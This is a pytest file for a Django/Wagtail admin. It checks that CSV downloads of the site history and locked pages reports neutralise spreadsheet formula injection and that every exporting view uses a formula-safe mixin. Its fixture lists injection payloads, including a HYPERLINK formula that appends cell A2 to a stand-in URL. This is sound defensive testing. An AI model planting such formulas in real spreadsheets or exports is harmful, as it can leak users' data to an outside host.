"""A CSV downloaded from the admin opens in a spreadsheet as text, never as a formula.

The street office downloads the site history and the locked pages report as
CSV. Notices whose titles a spreadsheet would run (``=HYPERLINK(...)``,
``-1+1``, ``@SUM(A1)``, a leading tab or carriage return) arrive prefixed with a
single quote; an ordinary title and a negative amount arrive as they were.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import URLResolver, get_resolver, resolve, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from content_types.notices.models import NoticePage
from content_types.roles.models import Role
from core.formula_safe import FormulaSafeCsvMixin, escape_formula
from tests.content_types.notices.factories import NoticePageFactory

pytestmark = pytest.mark.django_db

ESCAPED = {
    '=HYPERLINK("http://x"&A2,"点击查看")': '\'=HYPERLINK("http://x"&A2,"点击查看")',
    "-1+1": "'-1+1",
    "+1+1": "'+1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "\tx": "'\tx",
    "\rx": "'\rx",
}
KEPT = ["2025年第一季度公示", "-1500.00", "-1,234.50"]


@pytest.fixture
def street_office_client(street_tree, role_user, client):
    for title in [*ESCAPED, *KEPT]:
        notice = NoticePageFactory(parent=street_tree.compound_a1, title=title)
        log(notice, "wagtail.create")
    NoticePage.objects.update(locked=True)
    client.force_login(role_user(Role.STREET_OFFICE, street_tree.street))
    return client


def downloaded_column(client, report: str, heading: str) -> list[str]:
    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode()
    header, *rows = list(csv.reader(io.StringIO(content, newline="")))
    column = header.index(heading)
    return [row[column] for row in rows]


@pytest.mark.parametrize(
    ("report", "heading"), [("site_history", "名字"), ("locked_pages", "标题")]
)
def test_formula_titles_arrive_escaped_and_ordinary_ones_as_they_were(
    street_office_client, report, heading
):
    cells = downloaded_column(street_office_client, report, heading)

    for title, escaped in ESCAPED.items():
        assert escaped in cells, (report, title)
        assert title not in cells, (report, title)
    for title in KEPT:
        assert title in cells, (report, title)


def exporting_routes(patterns=None, prefix: str = ""):
    """Every URL route whose view can export a spreadsheet, with that view."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from exporting_routes(pattern.url_patterns, route)
            continue
        view = getattr(pattern.callback, "view_class", None)
        if not (view and issubclass(view, SpreadsheetExportMixin)):
            continue
        if pattern.callback.view_initkwargs.get("list_export", view.list_export):
            yield route, view


def test_every_admin_listing_that_exports_answers_with_formula_safe_csv():
    routes = dict(exporting_routes())
    assert "admin/reports/site-history/" in routes

    for route in routes:
        answering = resolve(f"/{route}").func.view_class
        assert issubclass(answering, FormulaSafeCsvMixin), route


def test_only_text_is_escaped():
    assert escape_formula(-1500) == -1500
    assert escape_formula(None) is None
    assert escape_formula("1+1") == "1+1"
    assert escape_formula("-") == "'-"
